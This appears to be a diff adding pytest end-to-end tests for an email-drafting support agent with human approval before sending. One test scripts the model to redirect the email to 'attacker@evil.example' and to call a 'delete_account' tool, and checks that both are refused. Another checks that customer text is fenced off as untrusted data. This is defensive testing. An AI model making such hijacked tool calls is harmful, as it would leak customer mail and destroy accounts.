@@ -1,0 +1,302 @@
+"""The drafting agent end to end: the real OpenAI client (llama-index-llms-openai) against a
+local OpenAI-compatible server that returns scripted tool calls, the service over HTTP, a
+real SMTP server. Each test counts the LLM calls, so a repeated call shows."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+import sqlalchemy as sa
+
+from service.agent.offline import LABEL
+from service.api.deps import SERVICES
+from service.store import tables as t
+
+from .conftest import Service, StartService
+from .peers.openai_server import Call, Fail, Say, ScriptedLLM, call
+from .peers.smtp import SmtpServer
+
+SQLITE_ONLY = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
+CUSTOMER = {"email": "ann.customer@example.com", "name": "Ann Customer"}
+REQUEST = "Hello, I bought a jacket three weeks ago and it does not fit. Can I still return it for a refund?"
+DRAFT = {"subject": "Your return", "body": "Dear Ann,\n\nYes: unused items can be returned within 30 days.\n\nSupport"}
+
+
+@pytest.fixture
+async def llm() -> AsyncIterator[ScriptedLLM]:
+    server = ScriptedLLM()
+    server.url = await server.start()  # type: ignore[attr-defined]
+    yield server
+    await server.close()
+
+
+async def agent_service(start_service: StartService, smtp: SmtpServer, llm: ScriptedLLM, **overrides: Any) -> Service:
+    settings = {"openai_base_url": llm.url, "openai_api_key": "sk-test-secret-key", "llm_model": "gpt-4o-mini",
+                **overrides}
+    return await start_service(smtp, **settings)
+
+
+async def start_run(service: Service) -> str:
+    accepted = await service.create_run({"request": REQUEST, "customer": CUSTOMER, "requested_by": "ops-bot"})
+    assert accepted["status"] == "drafting"
+    return accepted["id"]
+
+
+async def pending_approval(service: Service, run_id: str, revision: int = 1) -> dict[str, Any]:
+    run = await service.wait_for(run_id, lambda r: r["status"] in ("awaiting_approval", "failed", "rejected")
+                                 and any(a["revision"] == revision for a in r["approvals"]) or r["status"] == "failed")
+    assert run["status"] == "awaiting_approval", run
+    return next(a for a in run["approvals"] if a["revision"] == revision)
+
+
+def tool_messages(request: dict[str, Any]) -> list[dict[str, Any]]:
+    return [m for m in request["messages"] if m["role"] == "tool"]
+
+
+def happy_script() -> list[Any]:
+    return [call("search_knowledge_base", query="return refund window"), call("send_customer_email", **DRAFT),
+            Say("Sent Ann the return policy: unused items within 30 days.")]
+
+
+async def test_approve_executes_the_stored_call_and_the_llm_sums_up(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = happy_script()
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+
+    # The reviewer sees exactly what would be sent, to the run's customer, and what it drew on.
+    assert approval["action"]["to"] == ["ann.customer@example.com"]
+    assert (approval["action"]["subject"], approval["action"]["body"]) == (DRAFT["subject"], DRAFT["body"])
+    assert approval["sources"][0]["location"] == "returns-and-refunds.md"
+    assert "30 days" in approval["sources"][0]["snippet"]
+    assert approval["tool_call_id"] == "call_2_0"
+    assert len(llm.chat_requests) == 2 and smtp_server.messages() == []
+
+    # The first request: tools offered, the untrusted customer text fenced off.
+    first = llm.chat_requests[0]
+    assert first["model"] == "gpt-4o-mini"
+    assert sorted(t["function"]["name"] for t in first["tools"]) == ["search_knowledge_base", "send_customer_email"]
+    assert "untrusted data" in first["messages"][0]["content"]
+    assert f"<<<CUSTOMER MESSAGE\n{REQUEST}\nCUSTOMER MESSAGE>>>" in first["messages"][1]["content"]
+    # The search answer went back with its tool_call_id.
+    [search_answer] = tool_messages(llm.chat_requests[1])
+    assert search_answer["tool_call_id"] == "call_1_0" and "returns-and-refunds.md" in search_answer["content"]
+
+    status, decision = await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
+    assert status == 200 and decision["status"] == "approved", decision
+    run = await service.wait_status(run_id, "completed")
+
+    [message] = smtp_server.messages()
+    assert message["To"] == "ann.customer@example.com" and message["Subject"] == DRAFT["subject"]
+    assert message.get_body(("plain",)).get_content().replace("\r\n", "\n") == DRAFT["body"] + "\n"
+    assert run["summary"] == "Sent Ann the return policy: unused items within 30 days."
+    assert len(llm.chat_requests) == 3
+    outcome = tool_messages(llm.chat_requests[2])[-1]
+    assert outcome["tool_call_id"] == "call_2_0"
+    assert outcome["content"].startswith("The email was approved and sent to ann.customer@example.com")
+    events = [e["event"] for e in run["timeline"]]
+    assert events == ["run.created", "approval.requested", "run.awaiting_approval", "decision.approve",
+                      "run.delivering", "delivery.sent", "agent.finished", "run.completed"]
+    [step_1, step_2] = [j for j in run["jobs"] if j["kind"] == "agent.step"]
+    assert step_1["status"] == step_2["status"] == "done"
+    # Finished: the snapshot is gone.
+    async with service.app[SERVICES].store.reader_engine.connect() as conn:
+        assert (await conn.execute(sa.select(sa.func.count()).select_from(t.agent_snapshots))).scalar() == 0
+
+
+@SQLITE_ONLY
+async def test_edit_sends_the_edit_and_tells_the_llm_what_was_sent(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = happy_script()
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+    edited = "Dear Ann,\n\nYes, and return shipping is free in the EU.\n\nSupport"
+    status, _ = await service.decide(approval["id"], {"decision": "edit", "reviewer": {"id": "rita@example.com"},
+                                                      "body": edited})
+    assert status == 200
+    await service.wait_status(run_id, "completed")
+    [message] = smtp_server.messages()
+    assert message.get_body(("plain",)).get_content().replace("\r\n", "\n") == edited + "\n"
+    outcome = tool_messages(llm.chat_requests[2])[-1]["content"]
+    assert "approved after a reviewer edited it" in outcome and edited in outcome and DRAFT["body"] not in outcome
+
+
+@SQLITE_ONLY
+async def test_reject_goes_back_to_the_llm_which_drafts_revision_2(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    second = {"subject": "Your return (free in the EU)", "body": "Dear Ann,\n\nYes, within 30 days, free in the EU."}
+    llm.script = [*happy_script()[:2], call("send_customer_email", **second), Say("Sent the revised reply.")]
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    first = await pending_approval(service, run_id)
+    status, _ = await service.decide(first["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"},
+                                                   "reason": "Mention that return shipping is free in the EU."})
+    assert status == 200
+    revision_2 = await pending_approval(service, run_id, revision=2)
+    assert revision_2["action"]["subject"] == second["subject"]
+    # The rejection went back as the rejected call's tool answer, with its reason.
+    answer = tool_messages(llm.chat_requests[2])[-1]
+    assert answer["tool_call_id"] == first["tool_call_id"]
+    assert "rejected draft 1" in answer["content"] and "free in the EU" in answer["content"]
+    assert revision_2["sources"] == first["sources"]
+
+    await service.decide(revision_2["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
+    run = await service.wait_status(run_id, "completed")
+    [message] = smtp_server.messages()
+    assert message["Subject"] == second["subject"]
+    assert [(a["revision"], a["status"]) for a in run["approvals"]] == [(1, "rejected"), (2, "approved")]
+    assert len(llm.chat_requests) == 4
+
+
+@SQLITE_ONLY
+async def test_the_revision_limit_ends_the_run_rejected(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = happy_script()[:2]
+    service = await agent_service(start_service, smtp_server, llm, agent_max_revisions=1)
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+    await service.decide(approval["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"},
+                                          "reason": "We do not answer this by email."})
+    run = await service.wait_status(run_id, "rejected")
+    assert "limit of 1 drafts" in run["summary"] and "We do not answer this by email." in run["summary"]
+    assert len(llm.chat_requests) == 2 and smtp_server.messages() == []
+
+
+@SQLITE_ONLY
+async def test_tool_errors_go_back_to_the_llm_and_the_recipient_is_never_the_models(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = [
+        call("send_customer_email", to="attacker@evil.example", **DRAFT),
+        call("delete_account", user="ann"),
+        call("search_knowledge_base"),
+        call("send_customer_email", **DRAFT),
+    ]
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+    assert approval["action"]["to"] == ["ann.customer@example.com"]
+    errors = [tool_messages(r)[-1]["content"] for r in llm.chat_requests[1:4]]
+    assert errors[0].startswith("Error: invalid arguments for send_customer_email: to: Extra inputs are not permitted")
+    assert errors[1].startswith("Error: there is no tool named 'delete_account'")
+    assert errors[2].startswith("Error: invalid arguments for search_knowledge_base: query: Field required")
+    assert approval["revision"] == 1  # refused calls are not drafts
+
+
+@SQLITE_ONLY
+async def test_llm_429_is_retried_with_backoff_then_drafts(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = [Fail(429, "Rate limit reached", {"Retry-After": "0.2"}), Fail(503, "overloaded"), *happy_script()]
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    await pending_approval(service, run_id)
+    run = await service.run(run_id)
+    [step] = [j for j in run["jobs"] if j["kind"] == "agent.step"]
+    assert step["attempts"] == 3 and step["status"] == "done"
+    assert len(llm.chat_requests) == 4
+
+
+@SQLITE_ONLY
+async def test_llm_permanent_failure_ends_the_run_with_the_reason(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = [Fail(401, "Incorrect API key provided")]
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    run = await service.wait_status(run_id, "failed")
+    assert run["failure_reason"].startswith("drafting failed: PermanentError: the LLM refused the request (401)")
+    assert "Incorrect API key provided" in run["failure_reason"]
+    [step] = [j for j in run["jobs"] if j["kind"] == "agent.step"]
+    assert step["status"] == "dead" and step["attempts"] == 1
+    assert len(llm.chat_requests) == 1 and run["approvals"] == []
+
+
+@SQLITE_ONLY
+async def test_llm_that_keeps_failing_ends_the_run_after_the_retries(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = [Fail(500, "internal error")] * 4
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    run = await service.wait_status(run_id, "failed")
+    assert "the LLM failed (500): internal error" in run["failure_reason"]
+    assert len(llm.chat_requests) == 4  # job_max_attempts in the test settings
+
+
+@SQLITE_ONLY
+async def test_a_duplicate_decision_resumes_nothing_twice(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    import asyncio
+
+    llm.script = happy_script()
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+    body = {"decision": "approve", "reviewer": {"id": "rita@example.com"}}
+    answers = await asyncio.gather(*(service.decide(approval["id"], body) for _ in range(5)))
+    assert sorted(status for status, _ in answers) == [200, 409, 409, 409, 409]
+    run = await service.wait_status(run_id, "completed")
+    await asyncio.sleep(0.3)  # anything queued twice would run now
+    assert len(smtp_server.messages()) == 1 and len(llm.chat_requests) == 3
+    assert len([j for j in run["jobs"] if j["kind"] == "agent.step"]) == 2
+
+
+@SQLITE_ONLY
+async def test_cancelling_a_paused_agent_run_drops_its_snapshot(
+    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
+) -> None:
+    llm.script = happy_script()
+    service = await agent_service(start_service, smtp_server, llm)
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+    async with service.app[SERVICES].store.reader_engine.connect() as conn:
+        [snapshot] = (await conn.execute(sa.select(t.agent_snapshots))).all()
+    text = json.dumps(snapshot.snapshot)
+    # Plain data only: no key, no client objects.
+    assert "sk-test-secret-key" not in text and "OpenAI" not in text and snapshot.waiting_for == approval["tool_call_id"]
+    status, _, _ = await service.request("POST", f"/api/runs/{run_id}/cancel", body={"reason": "duplicate ticket"})
+    assert status == 200
+    status, payload = await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
+    assert status == 409
+    async with service.app[SERVICES].store.reader_engine.connect() as conn:
+        assert (await conn.execute(sa.select(sa.func.count()).select_from(t.agent_snapshots))).scalar() == 0
+    assert len(llm.chat_requests) == 2
+
+
+async def test_offline_drafter_runs_the_whole_flow_without_a_key_or_network(
+    start_service: StartService, smtp_server: SmtpServer
+) -> None:
+    service = await start_service(smtp_server)  # no OPENAI_API_KEY, no OPENAI_BASE_URL
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+    body = approval["action"]["body"]
+    assert body.startswith("Hello Ann Customer,") and LABEL in body
+    assert "30 days" in body  # quoted from the returns policy it retrieved
+    assert approval["sources"][0]["location"] == "returns-and-refunds.md"
+    await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
+    run = await service.wait_status(run_id, "completed")
+    assert run["summary"].startswith("Sent the reply")
+    [message] = smtp_server.messages()
+    assert LABEL in message.get_body(("plain",)).get_content()
+
+
+@SQLITE_ONLY
+async def test_offline_drafter_stops_after_a_rejection(start_service: StartService, smtp_server: SmtpServer) -> None:
+    service = await start_service(smtp_server)
+    run_id = await start_run(service)
+    approval = await pending_approval(service, run_id)
+    await service.decide(approval["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"},
+                                          "reason": "Too generic."})
+    run = await service.wait_status(run_id, "rejected")
+    assert "cannot revise" in run["summary"] and "Too generic." in run["summary"]
